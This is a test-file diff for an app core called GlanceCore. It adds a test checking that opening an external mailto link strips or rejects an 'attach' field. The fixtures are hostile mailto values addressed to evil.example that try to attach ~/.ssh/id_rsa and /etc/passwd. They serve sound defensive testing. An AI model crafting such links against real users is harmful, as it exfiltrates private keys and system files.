@@ -135,6 +135,13 @@ describe('GlanceCore', () => {
     expect(opened).toEqual(['https://example.com/x']);
   });
 
+  it('opens a mailto link without fields that would make the mail app attach a local file', async () => {
+    const { core, opened } = await makeCore();
+    expect(await core.dispatch('shell:openExternal', ['mailto:x@evil.example?attach=~/.ssh/id_rsa&Subject=Hi'])).toEqual({ ok: true, value: null });
+    expect(await core.dispatch('shell:openExternal', ['mailto:x@evil.example%3Fattach=/etc/passwd'])).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
+    expect(opened).toEqual(['mailto:x@evil.example?subject=Hi']);
+  });
+
   it('persists settings and tells the glue about launch at login', async () => {
     const setLaunchAtLogin = vi.fn();
     const { core } = await makeCore({ setLaunchAtLogin });
